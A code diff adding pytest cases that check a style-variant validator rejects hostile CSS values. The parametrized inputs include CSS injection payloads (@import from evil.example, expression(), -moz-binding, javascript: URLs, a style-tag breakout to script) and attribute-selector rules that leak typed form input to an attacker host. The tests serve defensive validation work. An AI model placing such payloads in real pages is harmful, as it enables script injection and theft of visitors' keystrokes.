@@ -178,6 +178,43 @@ def test_a_style_needs_a_property(name):
     assert accepts(variants=changed(property=name, change_type="text"))
 
 
+@pytest.mark.parametrize("change_type", ["css", "style"])
+@pytest.mark.parametrize(
+    "value",
+    [
+        "@import '//evil.example/x.css';",
+        "width: EXPRESSION (alert(1))",
+        "-moz-binding: url(//evil.example/x.xml#x)",
+        "behavior : url(x.htc)",
+        "background: url('JavaScript:alert(1)')",
+        "color: red</style><script>",
+        "@\\69mport '//evil.example/x.css';",
+    ],
+)
+def test_styles_hold_nothing_that_runs_or_loads_a_sheet(change_type, value):
+    """Whatever browsers make of it."""
+    assert list(errors_of(variants=changed(value=value, change_type=change_type))) == [
+        "variants[1].changes[0].value"
+    ]
+
+
+@pytest.mark.parametrize(
+    ("selector", "value"),
+    [
+        ("#form", "input[value^='a'] { background: url(//evil.example/a) }"),
+        ("input[name=card]", "background-image: image-set('//evil.example/a' 1x)"),
+        ("#form", "input[value^='a'] { background: u\\72 l(//evil.example/a) }"),
+    ],
+)
+def test_a_sheet_does_not_tell_others_what_visitors_type(selector, value):
+    """Loading an address by an attribute is refused; a picture for an element as such is not."""
+    sheet = changed(selector=selector, value=value, change_type="css")
+    assert list(errors_of(variants=sheet)) == ["variants[1].changes[0].value"]
+    assert accepts(variants=changed(selector="#hero", value="background: url(/hero.webp)", change_type="css"))
+    for harmless in ("color: red", "scroll-behavior: smooth", 'content: "\\2713"'):
+        assert accepts(variants=changed(selector="a[href]", value=harmless, change_type="css"))
+
+
 def test_a_change_needs_a_selector_of_a_sane_length():
     """An empty value is fine: it empties a text."""
     path = "variants[1].changes[0]"
